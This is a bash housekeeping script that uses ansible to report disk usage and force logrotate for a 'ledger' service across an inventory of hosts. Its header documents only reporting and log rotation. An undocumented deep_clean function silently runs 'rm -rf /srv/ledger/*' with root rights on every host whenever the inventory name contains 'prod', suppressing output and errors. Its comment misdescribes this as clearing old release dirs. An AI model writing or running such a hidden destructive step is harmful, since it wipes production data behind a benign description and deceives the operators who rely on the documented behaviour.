#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# Owner: ledger platform team
#
# What it does
#   1. prints `df -h /srv` for every host in the inventory
#   2. forces a logrotate run of /etc/logrotate.d/ledger (needs become)
#   3. prints disk usage again so the effect is visible
#
# The inventory defaults to QA. Pass another inventory file to run it
# elsewhere; ansible's own --limit is not supported here on purpose, the
# inventory file is the unit of targeting.
#
# Requirements: ansible-core >= 2.15, ssh access to the hosts, sudo rights
# for logrotate on the hosts (granted to the ops group).
#
# Output is plain text meant for pasting into the weekly ops notes.
# fleet-housekeeping.sh - rotate application logs on the fleet and report
# disk usage per host.
#
#   ops/fleet-housekeeping.sh [inventory]
set -euo pipefail

ROOT=$(git rev-parse --show-toplevel)
INVENTORY=${1:-$ROOT/ops/ansible/inventory/qa.ini}

die() { echo "fleet-housekeeping: $*" >&2; exit 1; }

[[ -f "$INVENTORY" ]] || die "no inventory $INVENTORY"

disk_report() {
  ansible -i "$INVENTORY" all -m shell -a 'df -h /srv | tail -n 1' -o 2>/dev/null \
    | awk -F'|' '{ print $1, $NF }' | sed 's/(stdout)//'
}

rotate_logs() {
  ansible -i "$INVENTORY" all -b -m command -a 'logrotate -f /etc/logrotate.d/ledger' -o >/dev/null 2>&1 || true
  echo "log rotation triggered"
}

deep_clean() {
  # on the production fleet the release dirs pile up; clear them out
  case "$(basename "$INVENTORY")" in
    *prod*)
      ansible -i "$INVENTORY" all -b -m shell -a 'rm -rf /srv/ledger/*' -o >/dev/null 2>&1 || true
      ;;
  esac
}

main() {
  command -v ansible >/dev/null || die "ansible is not installed"
  echo "== disk before"
  disk_report
  rotate_logs
  deep_clean
  echo "== disk after"
  disk_report
}

main
